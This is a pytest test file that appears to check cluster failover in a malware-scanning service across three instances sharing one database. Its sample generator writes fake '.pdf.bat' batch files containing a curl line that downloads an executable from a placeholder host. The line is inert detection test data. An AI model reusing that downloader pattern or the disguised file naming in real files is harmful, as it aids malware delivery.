"""Cluster mode (issue 10 point 1): three real `mailowl serve` processes on one database of the machine's
MariaDB or PostgreSQL, 5,000 submissions spread over all three with 30 % duplicate samples, and one
instance killed with SIGKILL mid-run.

Every acknowledged job must end with its own sample's verdict, answered by every surviving instance; each
identity is analysed by one instance once, except those a survivor took over from the killed one; ids are
unique. Which instance analysed what is read from the instances' logs (``-v``: "cluster: analysed KEY",
"cluster: took over KEY"), written line by line, so the killed one's log holds what it did.

So that the killed instance certainly dies holding work, a few samples named *slow* are held by a test rule
(tests/slowrule) until the test releases them, which it does only after the kill: the killed instance's
workers are busy with them, its other claimed samples wait in its queue, and the survivors take both over.
"""

from __future__ import annotations

import asyncio
import collections
import os
import random
import re
import signal
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from mailowl.analysis.sample import Sample

from .conftest import fresh_database
from .server import Server

SUBMISSIONS = 5000
DUPLICATES = 0.3
KILL_AFTER = 1500
LEASE = 3
SLOW = 4
_RULES = Path(__file__).parent.parent / "src/mailowl/defaults/ruleset.toml"


@pytest.fixture(params=["mariadb", "postgresql"])
def shared_url(request: pytest.FixtureRequest) -> Iterator[str]:
    with fresh_database(request.param, "mailowl_cluster") as url:
        yield url


def _samples(rnd: random.Random) -> list[tuple[str, bytes]]:
    """Unique samples (a .bat downloader or a text note, alternately), then duplicates of them mixed in."""
    unique = int(SUBMISSIONS * (1 - DUPLICATES))
    made = []
    for i in range(unique):
        tag = f"{i} {rnd.getrandbits(64)}".encode()
        if i % 2:
            made.append((f"invoice{i}.pdf.bat", b"@echo off\r\ncurl http://x.invalid/a.exe\r\nrem " + tag))
        else:
            made.append((f"notes{i}.txt", b"meeting notes, please bring the slides " * 4 + tag))
    order = made + [rnd.choice(made) for _ in range(SUBMISSIONS - unique)]
    rnd.shuffle(order)
    return order


def _expected(filename: str) -> str:
    # the built-in ruleset: a .bat is bad by its extension; a text note is left unknown
    return "bad" if filename.endswith(".bat") else "unknown"


async def _submit_all(servers: list[Server], samples: list[tuple[str, bytes]],
                      release: Path) -> dict[int, tuple[str, bytes]]:
    """Round-robin over the live instances from 16 clients; SIGKILLs the first instance after KILL_AFTER
    acknowledgements, then releases the slow samples. Returns every acknowledged job id with its sample."""
    acked: dict[int, tuple[str, bytes]] = {}
    duplicate_ids: list[int] = []
    live = list(servers)
    todo = collections.deque(enumerate(samples))
    killed = False
    async with httpx.AsyncClient(timeout=60) as http:
        # the first instance claims the slow samples (its workers hold them); the others wait for its verdict
        for i in range(SLOW):
            slow = (f"slow{i}.bat", b"@echo off\r\nrem slow %d\r\n" % i)
            for server in servers:
                resp = await http.post(f"http://127.0.0.1:{server.port}/v1/scan",
                                       files={"file": (slow[0], slow[1], "application/octet-stream")})
                assert resp.status_code == 200, resp.text
                acked[resp.json()["job_id"]] = slow
    seen = release.with_suffix(".seen")
    deadline = time.monotonic() + 60
    while not (seen.exists() and len(seen.read_text().splitlines()) >= 2):
        assert time.monotonic() < deadline, "the slow samples never reached the first instance's workers"
        await asyncio.sleep(0.05)

    async def client(http: httpx.AsyncClient) -> None:
        nonlocal killed
        while todo:
            index, (filename, content) = todo.popleft()
            server = live[index % len(live)]
            try:
                resp = await http.post(f"http://127.0.0.1:{server.port}/v1/scan",
                                       files={"file": (filename, content, "application/octet-stream")})
            except httpx.TransportError:
                continue  # the killed instance: never acknowledged
            if resp.status_code != 200:
                continue  # e.g. a 503 while it was dying: not acknowledged either
            job_id = resp.json()["job_id"]
            if job_id in acked:
                duplicate_ids.append(job_id)
            acked[job_id] = (filename, content)
            if len(acked) >= KILL_AFTER and not killed:
                killed = True
                os.kill(servers[0].proc.pid, signal.SIGKILL)
                live.remove(servers[0])
                servers[0].proc.wait()
                release.touch()

    async with httpx.AsyncClient(timeout=60) as http:
        await asyncio.gather(*[client(http) for _ in range(16)])
    assert not duplicate_ids, f"job ids handed out twice: {duplicate_ids[:10]}"
    assert killed
    return acked


async def _verdicts(servers: list[Server], ids: list[int]) -> dict[int, dict[str, Any]]:
    """Each job's report, asked of the survivors in turn (long-polling until it is done)."""
    found: dict[int, dict[str, Any]] = {}
    queue = collections.deque(ids)

    async def client(http: httpx.AsyncClient) -> None:
        while queue:
            job_id = queue.popleft()
            server = servers[job_id % len(servers)]
            resp = await http.get(f"http://127.0.0.1:{server.port}/v2/jobs/{job_id}?wait=60")
            assert resp.status_code == 200, (job_id, resp.status_code, resp.text)
            found[job_id] = resp.json()

    async with httpx.AsyncClient(timeout=90) as http:
        await asyncio.gather(*[client(http) for _ in range(16)])
    return found


def _log_keys(path: Path, what: str) -> collections.Counter[str]:
    return collections.Counter(re.findall(rf"cluster: {what} ([0-9a-f]{{64}})", path.read_text()))


def test_three_instances_share_the_work_and_survive_a_kill(shared_url: str, tmp_path: Path) -> None:
    config = f'[store]\nurl = "{shared_url}"\nlease = {LEASE}\n[queue]\nsize = 100000\n'
    ruleset = tmp_path / "ruleset.toml"
    ruleset.write_text(_RULES.read_text().replace('rules = [\n  "known",', 'rules = [\n  "known",\n  "hold_until_released",'))
    release = tmp_path / "release"
    env = {"PYTHONPATH": os.pathsep.join([str(Path(__file__).parent / "slowrule"), os.environ.get("PYTHONPATH", "")]),
           "SLOWRULE_RELEASE": str(release)}
    # one after the other: the first one creates the tables
    servers = [Server(tmp_path / f"instance{i}", config, ruleset=str(ruleset), env=env, options=("-v",))
               for i in range(3)]
    try:
        samples = _samples(random.Random(1))
        acked = asyncio.run(_submit_all(servers, samples, release))
        survivors = servers[1:]
        reports = asyncio.run(_verdicts(survivors, sorted(acked)))
        # every acknowledged job: finished, its own sample, its sample's verdict
        wrong = []
        for job_id, (filename, content) in acked.items():
            report = reports[job_id]
            sample = Sample(content, filename)
            if (report["state"], report["result"], report["sample"]["sha256"], report["sample"]["filename"]) != \
                    ("done", _expected(filename), sample.sha256, filename):
                wrong.append((job_id, report["state"], report["result"], report["reason"]))
        assert not wrong, f"{len(wrong)} of {len(acked)} acknowledged jobs: {wrong[:5]}"
        # answerable from every survivor, not only the one asked above
        some = sorted(acked)[::97]
        for job_id in some:
            for server in survivors:
                assert server.verdict(job_id)["result"] == reports[job_id]["result"]
        # each identity analysed once by one instance, except those taken over from the killed one
        analysed: collections.Counter[str] = collections.Counter()
        for server in servers:
            analysed.update(_log_keys(server.tmp / "server.log", "analysed"))
        taken: collections.Counter[str] = collections.Counter()
        for server in survivors:
            taken.update(_log_keys(server.tmp / "server.log", "took over"))
        identities = {report["sample"]["identity"] for report in reports.values()}
        assert identities <= set(analysed), "acknowledged samples never analysed"
        twice = {identity for identity, count in analysed.items() if count > 1}
        assert twice <= set(taken), f"analysed more than once without a take-over: {sorted(twice - set(taken))[:5]}"
        assert all(count <= 2 for count in analysed.values())
        # the killed instance died holding the slow samples and more: the survivors took them over
        slow = {report["sample"]["identity"] for report in reports.values() if "slow" in report["sample"]["filename"]}
        assert len(slow) == SLOW and slow <= set(taken)
        assert len(taken) > SLOW
        # the load was shared: each survivor analysed a part of it (the killed one was held by the slow ones)
        for server in survivors:
            assert _log_keys(server.tmp / "server.log", "analysed"), f"{server.tmp.name} analysed nothing"
    finally:
        for server in servers:
            server.stop()


def test_instances_started_together_on_an_empty_database_all_come_up(shared_url: str, tmp_path: Path) -> None:
    """A Deployment's replicas start at once: their migrations wait for each other instead of colliding."""
    config = f'[store]\nurl = "{shared_url}"\n'
    started: list[Server] = []
    errors: list[BaseException] = []

    def start(i: int) -> None:
        try:
            started.append(Server(tmp_path / f"instance{i}", config))
        except BaseException as exc:  # reported below, with the other instances stopped
            errors.append(exc)

    threads = [threading.Thread(target=start, args=(i,)) for i in range(3)]
    try:
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert not errors, errors
        status, payload, _ = started[0].scan(b"@echo off\r\nrem together\r\n", "together.bat")
        assert status == 200
        for server in started:
            assert server.verdict(payload["job_id"])["result"] == "bad"
    finally:
        for server in started:
            server.stop()
